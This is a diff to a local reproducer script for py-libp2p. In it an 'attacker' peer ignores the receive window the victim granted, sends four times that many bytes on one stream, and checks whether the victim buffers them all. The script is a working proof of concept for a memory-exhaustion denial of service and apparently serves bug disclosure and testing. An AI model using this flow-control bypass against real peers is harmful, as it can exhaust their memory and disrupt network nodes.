@@ -1,4 +1,4 @@
-"""A peer fills the memory through one stream that nobody reads."""
+"""A peer fills the memory through one stream that no task reads."""
 
 from __future__ import annotations
 
@@ -11,7 +11,6 @@ from libp2p.network.stream.exceptions import StreamError
 from support import LOOPBACK, connect, holds, main, new_host
 
 PROTOCOL = TProtocol("/reproducer")
-SENT_BYTES = 2**20  # four times the receive window
 
 
 async def reproduce() -> str:
@@ -27,15 +26,16 @@ async def reproduce() -> str:
         stream = await attacker.new_stream(victim.get_id(), [PROTOCOL])
         [[connection]] = victim.get_network().connections.values()
         muxed = connection.muxed_conn
-        stream.muxed_stream.send_window = 2 * SENT_BYTES  # what the victim granted does not matter
+        granted = muxed.streams[stream.muxed_stream.stream_id].recv_window
+        sent = stream.muxed_stream.send_window = 4 * granted  # the attacker ignores what was granted
         with suppress(StreamError):
-            await stream.write(bytes(SENT_BYTES))
+            await stream.write(bytes(sent))
 
         def buffered() -> int:
             return sum(map(len, muxed.stream_buffers.values()))
 
-        await holds(lambda: muxed.is_closed or buffered() == SENT_BYTES)
-        return "" if muxed.is_closed else f"{buffered()} bytes are buffered, the window is 262144"
+        await holds(lambda: muxed.is_closed or buffered() == sent)
+        return "" if muxed.is_closed else f"{buffered()} bytes are buffered, the window is {granted}"
 
 
 if __name__ == "__main__":
